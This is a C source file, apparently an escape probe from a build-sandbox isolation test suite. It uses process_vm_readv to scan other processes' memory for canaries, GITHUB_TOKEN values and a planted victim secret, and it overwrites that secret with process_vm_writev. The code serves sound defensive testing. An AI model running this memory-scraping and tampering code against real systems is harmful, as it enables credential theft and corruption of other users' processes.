// Class 4: process_vm_readv/process_vm_writev on processes outside the step: ocibuild's and the
// harness's memory (environment, canaries), the victim's secret (read, then overwritten).
// Control: the same calls on the step's own child.
#include <sys/uio.h>

#include "probe.h"

static char shared_marker[64] = "own-child-marker";

static void scan(pid_t pid, int write_back) {
  char* maps = p_strf("/proc/%d/maps", (int)pid);
  static char mb[1 << 20];
  ssize_t r = read_path(maps, mb, sizeof mb);
  ATT(r, "read(%s)", maps);
  if (r <= 0) {
    // No maps: try the classic non-PIE load address and hope.
    char buf[4096];
    struct iovec l = {buf, sizeof buf}, rv = {(void*)0x400000, sizeof buf};
    ATT(process_vm_readv(pid, &l, 1, &rv, 1, 0), "process_vm_readv(%d, 0x400000)", (int)pid);
    return;
  }
  size_t budget = 256u << 20;
  int found = 0, reads = 0;
  char* line = mb;
  while (line && *line && budget > 0) {
    char* next = strchr(line, '\n');
    if (next) *next++ = 0;
    unsigned long lo, hi;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' &&
        !strstr(line, "[vvar") && !strstr(line, "[vsyscall")) {
      size_t len = hi - lo;
      if (len > budget) len = budget;
      budget -= len;
      char* buf = malloc(len);
      struct iovec l = {buf, len}, rv = {(void*)lo, len};
      ssize_t got = buf ? process_vm_readv(pid, &l, 1, &rv, 1, 0) : -1;
      if (reads++ == 0) ATT(got, "process_vm_readv(%d, first region)", (int)pid);
      if (got > 0) {
        found += loot_needles("vm_readv", buf, (size_t)got, CANARY_PREFIX);
        found += loot_needles("vm_readv", buf, (size_t)got, "GITHUB_TOKEN=");
        char* v = memmem(buf, (size_t)got, "VICTIM-SECRET:", 14);
        if (v) {
          ++found;
          p_loot("vm_readv victim", v, 64);
          if (write_back) {
            struct iovec wl = {(void*)"PWNED-BY-PROBE", 14},
                         wr = {(void*)(lo + (unsigned long)(v - buf) + 14), 14};
            if (ATT(process_vm_writev(pid, &wl, 1, &wr, 1, 0), "process_vm_writev(%d)", (int)pid) ==
                14)
              p_escape("overwrote the secret of pid %d", (int)pid);
          }
        }
      }
      free(buf);
    }
    line = next;
  }
  p_line("ATTEMPT", "scan of pid %d: %d hits", (int)pid, found);
}

int main(void) {
  p_start();
  int pipefd[2];
  if (pipe(pipefd) != 0) return 1;
  pid_t c = fork();
  if (c == 0) {
    char b;
    strcpy(shared_marker, "child-changed-marker");
    close(pipefd[1]);
    ssize_t r = read(pipefd[0], &b, 1);
    (void)r;
    _exit(0);
  }
  close(pipefd[0]);
  usleep(100000);
  char got[64] = "";
  struct iovec l = {got, sizeof got}, rv = {shared_marker, sizeof got};
  long rc = process_vm_readv(c, &l, 1, &rv, 1, 0);
  // Not a control: Docker's default profile refuses process_vm_* without CAP_SYS_PTRACE.
  ATT(rc > 0 && !strcmp(got, "child-changed-marker") ? rc : -1, "process_vm_readv(own child)");
  ssize_t w = write(pipefd[1], "x", 1);
  (void)w;
  waitpid(c, NULL, 0);
  pid_t t[64];
  int n = read_targets(t, 64);
  long v1 = hint_long("VICTIM"), v2 = hint_long("VICTIM2");
  for (int i = 0; i < n; ++i) scan(t[i], t[i] == v1 || t[i] == v2);
  p_end();
}
